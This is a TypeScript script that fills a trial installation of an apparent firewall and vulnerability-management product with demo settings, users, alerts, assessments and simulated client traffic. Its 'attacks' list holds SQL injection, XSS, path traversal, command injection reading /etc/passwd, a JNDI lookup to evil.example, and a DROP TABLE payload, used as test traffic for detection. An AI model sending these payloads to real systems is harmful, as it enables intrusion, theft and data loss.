// Fills a running installation with what a busy week leaves behind. All of it is made up, and may be shown: a site
// with limits, rules and a specification; addresses, accounts, alerts; ordinary requests and attacks of many clients.
//   node build/console/e2e/fill.js --password-file FILE [--url http://127.0.0.1:3010] [--waf http://127.0.0.1:8080]
//     [--email admin@gatehouse.local] [--rounds 60]
// The organisation of the vulnerability manager comes from `gatehouse demo-data`. The clients are of the networks for
// documentation; the settings trust the loopback address to name them, which suits a trial installation only.
import { Agent, request } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import { parseArgs } from 'node:util';
import { consoleFlags, passwordIn } from './browser.js';

const { values } = parseArgs({
  options: {
    ...consoleFlags,
    waf: { type: 'string', default: 'http://127.0.0.1:8080' },
    rounds: { type: 'string', default: '60' },
  },
});

const agents = [
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile Safari/604.1',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:130.0) Gecko/20100101 Firefox/130.0',
];
const ordinary = [
  ...['/', '/products', '/search?q=lamp', '/search?q=winter+coat&size=40', '/account', '/static/app.css'],
  ...['/api/orders/1043', '/api/orders/1077', '/api/orders/2210', '/products/7', '/products/11', '/about'],
];
const attacks: readonly (readonly [path: string, agent: number | string])[] = [
  ["/search?q=1'%20OR%20'1'='1", 0],
  ["/search?q=coat'%20UNION%20SELECT%20card,owner%20FROM%20payments--%20", 2],
  ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 1],
  ['/download?file=../../../../etc/passwd', 0],
  ['/tools/ping?host=127.0.0.1;cat%20/etc/passwd', 2],
  ['/?x=$%7Bjndi:ldap://evil.example/a%7D', 'curl/8.9.1'],
  ['/.env', 'sqlmap/1.8#stable (https://sqlmap.org)'],
  ["/api/orders/1043?sort=id'%3BDROP%20TABLE%20orders--", 'python-requests/2.32'],
];

interface Reply {
  readonly status: number;
  readonly body: Record<string, unknown>;
}

async function logIn(): Promise<string> {
  const { status, body } = await ask('', 'POST', '/api/login', { email: values.email, password: passwordIn(values) });
  if (status !== 200) throw new Error(`${values.url} refuses the login of ${values.email} with ${status}.`);
  return String(body['token']);
}

async function ask(token: string, method: string, path: string, body?: unknown): Promise<Reply> {
  const headers: Record<string, string> = { 'content-type': 'application/json', 'x-gatehouse-request': '1' };
  if (token !== '') headers['authorization'] = `Bearer ${token}`;
  const text = body === undefined ? {} : { body: JSON.stringify(body) };
  const reply = await fetch(values.url + path, { method, headers, ...text });
  const said = await reply.text();
  if (!reply.ok && reply.status !== 409) console.log(`${method} ${path}: ${reply.status} ${said.slice(0, 300)}`);
  return { status: reply.status, body: said.startsWith('{') ? (JSON.parse(said) as Reply['body']) : {} };
}

const settings = {
  rl_trust_proxy: true,
  rl_trusted_proxies: ['127.0.0.1/32'],
  rl_enabled: true,
  rl_zones: [{ name: 'searches', match_path: '/search', events: 300, window: '1m' }],
  flood_dry_run: true,
  bot_action: 'monitor',
  replay_sampling: { every: 1, per_second_max: 50 },
};

const specification = `openapi: 3.1.0
info: { title: Orders, version: 1.4.0 }
servers: [{ url: / }]
paths:
  /api/orders/{id}:
    get:
      parameters: [{ name: id, in: path, required: true, schema: { type: integer } }]
      responses: { '200': { description: an order } }
  /api/returns:
    post:
      requestBody: { content: { application/json: { schema: { type: object } } } }
      responses: { '201': { description: a return } }
`;

/** What an ingestion source tells of one exchange: names of fields and values of made-up people. */
const exchange = (method: string, url: string, body: object, bearer: boolean) => ({
  startedDateTime: new Date().toISOString(),
  time: 12,
  request: {
    ...{ method, url, queryString: [] },
    headers: bearer ? [{ name: 'Authorization', value: 'Bearer made-up-token' }] : [],
  },
  response: { status: 200, headers: [], content: { mimeType: 'application/json', text: JSON.stringify(body) } },
});

const exchanges = [
  ...[1043, 1077, 2210, 3001].map((id) =>
    exchange('GET', `http://shop.example/api/orders/${id}`, { id, mail: 'ann@shop.example', total: 89.9 }, true),
  ),
  exchange('GET', 'http://shop.example/api/customers', { mail: 'ben@shop.example', phone: '+49 30 901820' }, false),
  exchange(
    'POST',
    'http://shop.example/api/payments',
    { pan: '4111111111111111', iban: 'DE89370400440532013000' },
    true,
  ),
  exchange('GET', 'http://shop.example/internal/debug', { uptime: 71, mail: 'root@shop.example' }, false),
];

const hops = [
  { caller: 'shop', callee: 'orders', path: '/v1/orders', method: 'GET', status: 200, mtls: true },
  { caller: 'shop', callee: 'catalogue', path: '/v1/products', method: 'GET', status: 200, mtls: true },
  { caller: 'orders', callee: 'payments', path: '/v1/charges', method: 'POST', status: 201, mtls: true },
  { caller: 'orders', callee: 'mailer', path: '/send', method: 'POST', status: 202 },
  { caller: 'batch', callee: 'payments', path: '/v1/charges', method: 'GET', status: 200 },
];

const alerts = [
  { name: 'Many requests are blocked', metric: 'block_rate', threshold: 20, window_min: 5, cooldown_min: 30 },
  { name: 'The upstream fails', metric: 'errors', threshold: 20, window_min: 5, cooldown_min: 15 },
].map((rule) => ({ ...rule, type: 'webhook', target: 'https://hooks.example.org/services/made-up' }));

async function configure(token: string): Promise<void> {
  await ask(token, 'PATCH', '/api/settings', settings);
  await ask(token, 'POST', '/api/rules', {
    ...{
      name: 'No exports from outside',
      enabled: true,
      kind: 'visual',
      variable: 'REQUEST_URI',
      operator: 'beginsWith',
    },
    ...{ value: '/admin/export', action: 'deny', phase: 1, transformations: ['none'], redirect_url: '', seclang: '' },
    ...{ sites: [], tests: [] },
  });
  await ask(token, 'POST', '/api/spec?site=customer&name=orders', { spec: specification });
  await ask(token, 'POST', '/api/apply', {});
  const listed = { addresses: ['198.51.100.23', '203.0.113.0/28', '192.0.2.77'], reason: 'probing of the login' };
  await ask(token, 'POST', '/api/threat-intel', listed);
  for (const alert of alerts) await ask(token, 'POST', '/api/alerts', alert);
  for (const [name, role] of [
    ['Noor Haddad', 'operator'],
    ['Ivo Lindqvist', 'viewer'],
  ] as const) {
    const email = `${name.split(' ')[0]?.toLowerCase() ?? ''}@shop.example`;
    await ask(token, 'POST', '/api/users', { email, name, role, password: 'first-word-of-many-77' });
  }
  await ask(token, 'POST', '/api/tokens', { name: 'pipeline', role: 'viewer', scopes: ['events:read'] });
}

/** What an organisation keeps beside its findings; nothing without the applications of `gatehouse demo-data`. */
async function keepBeside(token: string): Promise<void> {
  const reply = await ask(token, 'GET', '/api/v1/applications?limit=3&sort=name');
  const applications = (reply.body['items'] ?? []) as readonly { readonly id: string }[];
  for (const [at, { id }] of applications.entries())
    for (const [kind, path] of [
      ['web', ''],
      ['api', 'api'],
    ] as const)
      await ask(token, 'POST', '/api/v1/targets', {
        ...{ application_id: id, kind, url: `https://service-${at + 1}.shop.example/${path}` },
      });
  const [first] = applications;
  if (first === undefined) return;
  await ask(token, 'POST', '/api/v1/target-groups', {
    name: 'Each quarter',
    description: 'Looked at four times a year',
  });
  const severe = { field: 'severity', op: 'gte', value: 'high' };
  const policy = { name: 'Nothing severe at the door', predicate: severe, action: 'violation', severity: 'high' };
  await ask(token, 'POST', '/api/v1/policies', { ...policy, enabled: true });
  await ask(token, 'POST', '/api/v1/assessments', {
    ...{ application_id: first.id, name: 'Penetration test, autumn', kind: 'pentest', status: 'active' },
    ...{ lead: 'noor@shop.example', scope: 'Login, basket and payment' },
    checklist: [
      { item: 'Sessions end when somebody logs out', result: 'pass' },
      { item: 'Orders of others cannot be read', result: 'fail', note: 'ids are answered in a row' },
      { item: 'Uploads are checked by content', result: 'open' },
    ],
  });
  const name = 'Shop and what it speaks with';
  const { body } = await ask(token, 'POST', '/api/v1/threat-models', { application_id: first.id, name });
  await ask(token, 'POST', `/api/v1/threat-models/${String(body['id'])}/generate`, {});
  await ask(token, 'POST', '/api/v1/rbac/roles', {
    ...{ name: 'release-manager', permissions: ['view_findings', 'view_gates', 'run_ci', 'override_gate'] },
  });
}

const agent = new Agent({ keepAlive: true });

/** What a client of the shop sends. A client of its own names the host, which `fetch` would not. */
const send = (path: string, client: string, userAgent: string): Promise<void> =>
  new Promise((resolve, reject) => {
    const headers = { host: 'shop.example', accept: '*/*', 'user-agent': userAgent, 'x-forwarded-for': client };
    const asked = request(values.waf + path, { agent, headers }, (reply) => {
      reply.resume();
      reply.on('end', resolve);
    });
    asked.on('error', reject);
    asked.end();
  });

async function sendTraffic(rounds: number): Promise<void> {
  for (let round = 0; round < rounds; round += 1) {
    for (const [at, path] of ordinary.entries())
      await send(path, `198.51.100.${(round * 7 + at * 3) % 200}`, agents[(round + at) % 3] ?? '');
    const [path, by] = attacks[round % attacks.length] ?? ['/', 0];
    await send(path, `203.0.113.${20 + (round % 11)}`, typeof by === 'string' ? by : (agents[by] ?? ''));
    await pause(20); // a burst would be what the limits are for
  }
  agent.destroy();
}

const token = await logIn();
await configure(token);
await keepBeside(token);
await ask(token, 'POST', '/api/ingest?site=customer', { log: { version: '1.2', entries: exchanges } });
await ask(token, 'POST', '/api/ingest/mesh', hops);
await sendTraffic(Number(values.rounds));
await ask(token, 'POST', '/api/threat-intel', { addresses: ['203.0.113.77'], reason: 'card testing' });
console.log(`${values.url} has something to show.`);
